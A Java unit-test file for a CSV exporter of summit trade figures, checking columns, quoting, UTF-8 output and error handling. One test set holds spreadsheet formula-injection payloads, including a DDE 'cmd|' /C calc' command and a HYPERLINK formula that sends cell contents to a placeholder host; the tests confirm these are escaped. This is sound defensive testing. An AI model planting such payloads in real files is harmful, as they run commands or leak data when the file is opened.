package org.summitry.examples.figures;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import com.google.common.base.CharMatcher;
import com.google.common.base.Splitter;
import com.google.common.collect.ImmutableMap;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.summitry.Summit;
import org.summitry.examples.asean26.Asean26;
import org.summitry.examples.shared.Documents;
import org.summitry.examples.shared.Ran;
import org.summitry.figure.Indicator;
import org.summitry.figure.Magnitude;
import org.summitry.figure.Qualifier;
import org.summitry.figure.Quantity;
import org.summitry.figure.TradeFigure;
import org.summitry.figure.Unit;
import org.summitry.json.SummitryJson;
import org.summitry.party.Party;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvReadFeature;

/** The table of figures, read back by a parser that shares no code with what wrote it. */
class FiguresTest {
    private static final Party VIET_NAM = Party.of("VN", Party.Kind.COUNTRY, "Viet Nam");

    @TempDir
    Path folder = Path.of("");

    private static Ran run(String... args) {
        return Ran.of(Figures.program(), args);
    }

    private static List<List<String>> cells(String csv) {
        return new CsvMapper()
                .readerForListOf(String.class)
                .with(CsvReadFeature.WRAP_AS_ARRAY)
                .<List<String>>readValues(csv)
                .readAll();
    }

    /** The rows by the names of their columns. */
    private static List<Map<String, String>> rows(String csv) {
        List<List<String>> cells = cells(csv);
        List<String> names = cells.get(0);
        return cells.stream()
                .skip(1)
                .<Map<String, String>>map(row -> {
                    assertThat(row).hasSameSizeAs(names);
                    ImmutableMap.Builder<String, String> byName = ImmutableMap.builder();
                    for (int i = 0; i < row.size(); i++) {
                        byName.put(names.get(i), row.get(i));
                    }
                    return byName.buildOrThrow();
                })
                .toList();
    }

    private static Summit summit(String name, TradeFigure... figures) {
        return Summit.builder()
                .id("a")
                .name(name)
                .status(Summit.Status.HELD)
                .addFigures(figures)
                .build();
    }

    private static TradeFigure.Builder figure(Quantity value) {
        return TradeFigure.builder()
                .id("f")
                .kind(TradeFigure.Kind.OBSERVATION)
                .indicator(Indicator.TRADE_BALANCE)
                .reporter(VIET_NAM)
                .value(value);
    }

    private static Map<String, String> rowOf(TradeFigure figure) {
        return rows(FigureTable.csv(List.of(summit("A", figure)))).get(0);
    }

    @Test
    void aFigureIsARowWithItsPartsApart() {
        Ran ran = run("src/main/resources/org/summitry/examples/summits/asean-rok-26.json");

        assertThat(ran.code()).isZero();
        assertThat(ran.err()).isEmpty();
        assertThat(rows(ran.out())).hasSize(Asean26.summit().figures().size());
        assertThat(rows(ran.out()).get(0))
                .containsAllEntriesOf(Map.of(
                        "summit", "asean-rok-26",
                        "summitName", "26th ASEAN–Republic of Korea Summit",
                        "id", "trade-2024",
                        "kind", "observation",
                        "indicator", "two-way-trade",
                        "reporter", "ASEAN",
                        "partner", "KR",
                        "partnerName", "Republic of Korea",
                        "period", "2024"))
                .containsAllEntriesOf(Map.of(
                        "basis", "in-period",
                        "qualifier", "exactly",
                        "number", "208.2",
                        "to", "",
                        "magnitude", "billion",
                        "unit", "USD",
                        "amount", "208200000000",
                        "amountTo", "",
                        "rank", "5",
                        "among", "trading-partners"))
                .containsAllEntriesOf(Map.of("outOf", "", "definition", "", "years", "", "citations", "vns"));
    }

    @Test
    void withoutFilesAllFiguresOfTheShippedSummitsAreThereInTheirOrder() {
        assertThat(rows(run().out()).stream().map(row -> row.get("summit")).distinct())
                .isSubsetOf(Documents.SHIPPED)
                .isSorted()
                .hasSizeGreaterThan(4);
    }

    @Test
    void eachColumnIsFilledBySomeFigure() {
        TradeFigure rich = figure(Quantity.range("-3.10", "-2", Magnitude.MILLION, Unit.USD)
                        .with(Qualifier.ABOUT))
                .kind(TradeFigure.Kind.PLEDGE)
                .definition("goods only")
                .partner(Party.of("KR", Party.Kind.COUNTRY, "Republic of Korea"))
                .period("2021/2025")
                .basis(TradeFigure.Basis.TOTAL)
                .years(5)
                .unitImplied(true)
                .addConversions(Quantity.parse("about EUR 3 million"), Quantity.parse("GBP 2 million"))
                .setOn("2020-11")
                .addConditions("if asked", "if paid")
                .partOf("whole")
                .build();

        assertThat(rowOf(rich))
                .containsAllEntriesOf(Map.of(
                        "number", "-3.10",
                        "to", "-2",
                        "qualifier", "about",
                        "amount", "-3100000",
                        "amountTo", "-2000000",
                        "unitImplied", "true",
                        "years", "5",
                        "basis", "total"))
                .containsAllEntriesOf(Map.of(
                        "definition", "goods only",
                        "period", "2021/2025",
                        "conversions", "about EUR 3 million; GBP 2 million",
                        "setOn", "2020-11",
                        "conditions", "if asked; if paid",
                        "partOf", "whole"));
    }

    @Test
    void aGrowthAndAShareSayOfWhat() {
        assertThat(rowOf(figure(Quantity.of("7.60", Unit.PERCENT))
                        .aspect(TradeFigure.Aspect.GROWTH)
                        .comparedWith("2023")
                        .build()))
                .containsAllEntriesOf(Map.of("aspect", "growth", "comparedWith", "2023", "number", "7.60"));
        assertThat(rowOf(figure(Quantity.of("3", Unit.PERCENT))
                        .aspect(TradeFigure.Aspect.SHARE)
                        .shareOf("world trade")
                        .build()))
                .containsAllEntriesOf(Map.of("aspect", "share", "shareOf", "world trade", "unit", "percent"));
    }

    static Stream<Arguments> formulas() {
        return Stream.of(
                arguments(
                        "=HYPERLINK(\"http://example.org?x=\"&A1,\"more\")",
                        "'=HYPERLINK(\"http://example.org?x=\"&A1,\"more\")"),
                arguments("+1+1", "'+1+1"),
                arguments("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
                arguments("@SUM(1)", "'@SUM(1)"),
                arguments("＝1+1", "'＝1+1"),
                arguments("  =1", "'  =1"),
                arguments("\u00A0\u3000=1", "'\u00A0\u3000=1"),
                arguments("\u200B\uFEFF=1", "'\u200B\uFEFF=1"),
                arguments("\"=1\"", "'\"=1\""),
                arguments("\t=1", "'\t'=1"),
                arguments("\r=1", "'\r'=1"),
                arguments("\n=1", "'\n'=1"),
                arguments("goods;=1", "goods;'=1"),
                arguments("goods; \"=1\"", "goods;' \"=1\""),
                arguments("goods|@SUM(1)", "goods|'@SUM(1)"),
                arguments("goods,+1", "goods,'+1"),
                arguments("goods\t-1", "goods\t'-1"),
                arguments("goods\r\n=1", "goods\r'\n'=1"),
                arguments("1=1; a+b, c-d", "1=1; a+b, c-d"),
                arguments("a = b", "a = b"));
    }

    @ParameterizedTest
    @MethodSource("formulas")
    void aTextThatWouldBeAFormulaIsAText(String text, String cell) {
        Summit hostile = summit(
                text,
                figure(Quantity.of("1", Unit.USD))
                        .reporter(Party.of("VN", Party.Kind.COUNTRY, text))
                        .definition(text)
                        .addConditions(text)
                        .build());

        assertThat(rows(FigureTable.csv(List.of(hostile))).get(0))
                .containsEntry("summitName", cell)
                .containsEntry("reporterName", cell)
                .containsEntry("definition", cell)
                .containsEntry("conditions", cell);
    }

    /** Reads a table as a spreadsheet does that was told another separator: quotes count only where they begin a cell. */
    @Property
    void noSpreadsheetOfAnySeparatorFindsAFormula(@ForAll("texts") String name, @ForAll("texts") String definition) {
        String csv = FigureTable.csv(List.of(summit(
                name, figure(Quantity.of("-1", Unit.USD)).definition(definition).build())));
        String ofTheFigure = csv.substring(csv.indexOf('\n') + 1);

        assertThat(Splitter.on(CharMatcher.anyOf(";|\t\r\n")).split(ofTheFigure))
                .allSatisfy(cell -> assertThat(cell.replaceFirst("(?U)^[\\s\"\\p{Cntrl}]+", ""))
                        .doesNotContainPattern("\\A[=+@＝＋－＠-]"));
    }

    @Test
    void aNegativeNumberIsNoFormula() {
        String csv = FigureTable.csv(List.of(
                summit("A", figure(Quantity.of("-7.5", Unit.USD)).build())));

        assertThat(csv).contains(",-7.5,").doesNotContain("'");
    }

    @Test
    void linesEndAsTheStandardSaysAndCellsAreQuotedWhereTheyMustBe() {
        Summit summit =
                summit("Say \"yes\", or\nno", figure(Quantity.of("1", Unit.USD)).build());

        assertThat(FigureTable.csv(List.of(summit)))
                .startsWith("summit,summitName,id,")
                .contains("\r\na,\"Say \"\"yes\"\", or\nno\",f,")
                .endsWith("\r\n");
    }

    @Test
    void recordsWithoutFiguresLeaveTheHeader() {
        assertThat(FigureTable.csv(List.of(summit("A")))).hasLineCount(1).endsWith("citations\r\n");
    }

    @Property
    void theCellsOfATableAreTheTextsOfTheRecord(
            @ForAll("texts") String name, @ForAll("texts") String definition, @ForAll("texts") String condition) {
        Summit summit = summit(
                name,
                figure(Quantity.of("1", Unit.USD))
                        .definition(definition)
                        .addConditions(condition)
                        .build());

        Map<String, String> row = rows(FigureTable.csv(List.of(summit))).get(0);

        assertThat(withoutApostrophes(row, "summitName")).isEqualTo(name.replace("'", ""));
        assertThat(withoutApostrophes(row, "definition")).isEqualTo(definition.replace("'", ""));
        assertThat(withoutApostrophes(row, "conditions")).isEqualTo(condition.replace("'", ""));
    }

    private static String withoutApostrophes(Map<String, String> row, String column) {
        return row.getOrDefault(column, "").replace("'", "");
    }

    @Provide
    Arbitrary<String> texts() {
        return Arbitraries.strings()
                .withChars("=+-@\t\r\n\",;| a0<\u0000\u2028é")
                .all()
                .ofMinLength(1)
                .ofMaxLength(12)
                .filter(text -> !text.isBlank() && UTF_8.newEncoder().canEncode(text));
    }

    @Test
    void theTableIsUtf8WhateverTheStreamIsAndHasAMarkOnlyIfAskedTo() {
        assertThat(run().out()).startsWith("summit,").contains("ASEAN–Republic of Korea");
        assertThat(run("--bom").out()).isEqualTo("\uFEFF" + run().out());
    }

    @Test
    void writesToAFileWhatItWouldPrint() throws IOException {
        Path file = folder.resolve("figures.csv");

        assertThat(run("--out", file.toString())).isEqualTo(new Ran(0, "", ""));
        assertThat(file).content(UTF_8).isEqualTo(run().out());
    }

    @Test
    void doesNotReplaceADocumentAndSaysWhatItCannotWrite() throws IOException {
        Path document = folder.resolve("good.json");
        SummitryJson.create().write(summit("A"), document);
        String before = Files.readString(document);

        Ran replacing = run("--out", document.toString(), document.toString());

        assertThat(replacing.code()).isEqualTo(2);
        assertThat(replacing.err()).contains("would replace the document " + document);
        assertThat(document).content(UTF_8).isEqualTo(before);
        assertThat(run("--out", folder.resolve("missing/figures.csv").toString()))
                .satisfies(ran -> assertThat(ran.code()).isEqualTo(2))
                .satisfies(ran -> assertThat(ran.err())
                        .startsWith("Figures: cannot write ")
                        .endsWith(": no such file or folder\n"));
    }

    @Test
    void aBadDocumentIsNamedAndNothingIsPrinted() throws IOException {
        Path good = folder.resolve("good.json");
        SummitryJson.create().write(summit("A"), good);
        Path bad = Files.writeString(folder.resolve("bad.json"), "{\n\"id\": 7}");

        Ran ran = run(good.toString(), bad.toString());

        assertThat(ran.code()).isEqualTo(1);
        assertThat(ran.out()).isEmpty();
        assertThat(ran.err()).contains(bad + ":2:7: error wrong-type");
    }

    @ParameterizedTest
    @ValueSource(strings = {"--nonsense", "-x", "--out"})
    void wrongArgumentsAreAnsweredWithTheUsage(String argument) {
        Ran ran = run(argument);

        assertThat(ran.code()).isEqualTo(2);
        assertThat(ran.out()).isEmpty();
        assertThat(ran.err()).contains(argument).contains("Usage: Figures").endsWith("Try: Figures --help\n");
    }
}
